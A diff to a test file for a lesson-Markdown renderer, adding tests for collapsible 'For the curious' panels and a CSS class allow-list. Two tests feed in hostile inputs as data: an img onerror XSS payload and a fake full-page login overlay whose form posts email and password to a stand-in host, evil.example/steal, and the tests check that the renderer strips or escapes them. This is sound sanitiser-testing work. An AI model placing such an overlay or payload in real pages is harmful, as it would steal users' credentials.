@@ -1,5 +1,7 @@
 """Lesson Markdown is rendered once, on save, to sanitised HTML with glossary and citation links."""
 
+import re
+
 import pytest
 
 from education.rendering import markdown_to_plain, render_markdown, term_slugs_in
@@ -135,3 +137,54 @@ def test_a_glossary_term_added_later_links_the_text_that_already_uses_it():
     section.refresh_from_db()
     assert "href" not in section.body_html and "signal proteins (cytokines)" in section.body_html
     assert not lesson.glossary_terms.exists()
+
+
+# --- "For the curious" panels and the class allow-list (issues #18, #15 item 11) -----------------
+
+
+def test_a_curious_block_becomes_a_details_panel_with_its_markdown_rendered():
+    html = render_markdown("Core text.\n\n::: curious The signals\nSome **detail** [1].\n:::\n\nMore core.")
+    assert html.startswith("<p>Core text.</p>")
+    assert '<details class="curious"><summary>For the curious: The signals</summary>' in html
+    assert "<strong>detail</strong>" in html and 'href="#ref-1"' in html
+    assert html.index("</details>") < html.index("More core.")
+
+
+def test_a_curious_heading_is_text_never_markup():
+    html = render_markdown('::: curious <img src=x onerror="alert(1)"> heading\nBody.\n:::')
+    assert "<img" not in html  # shown as the words typed, escaped
+    assert 'For the curious: &lt;img src=x onerror="alert(1)"&gt; heading</summary>' in html
+
+
+def test_an_unclosed_curious_block_runs_to_the_end_and_a_lone_closing_line_stays_text():
+    html = render_markdown("::: curious Open\nInside.")
+    assert html.count("<details") == 1 and "Inside." in html
+    assert "<details" not in render_markdown("Just text.\n:::\n")
+
+
+def test_a_fake_full_page_login_in_lesson_markdown_loses_everything_that_draws_it():
+    fake = (
+        '<div class="position-fixed top-0 start-0 w-100 h-100 bg-white" style="z-index:9999">'
+        '<h2 class="display-1">Your session has ended</h2>'
+        '<form action="https://evil.example/steal" method="post"><input type="email" name="email">'
+        '<input type="password" name="password"><button class="btn btn-primary">Log in</button></form>'
+        '<a class="stretched-link position-fixed" href="https://evil.example/login">Log in again</a>'
+        '<span class="position-absolute d-none visually-hidden">x</span></div>'
+    )
+    html = render_markdown(f"Bone is living tissue.\n\n{fake}")
+    forbidden = ["position-", "stretched-link", "w-100", "bg-white", "display-1", "btn", "d-none"]
+    forbidden += ["visually-hidden", "<form", "<input", "<button", "<div", "style=", "z-index"]
+    for text in forbidden:
+        assert text not in html, text
+    # What is left is plain text and an ordinary link, marked as leaving the site.
+    link = re.search(r"<a [^>]*>Log in again</a>", html).group(0)
+    assert 'href="https://evil.example/login"' in link and 'rel="noopener noreferrer"' in link
+    assert "class=" not in link
+
+
+def test_only_the_classes_the_renderer_writes_survive():
+    html = render_markdown(
+        '<span class="cite sr-only hacker">a</span> <a class="term-link extra" href="#x">b</a>'
+    )
+    assert 'class="cite sr-only"' in html and 'class="term-link"' in html
+    assert "hacker" not in html and "extra" not in html
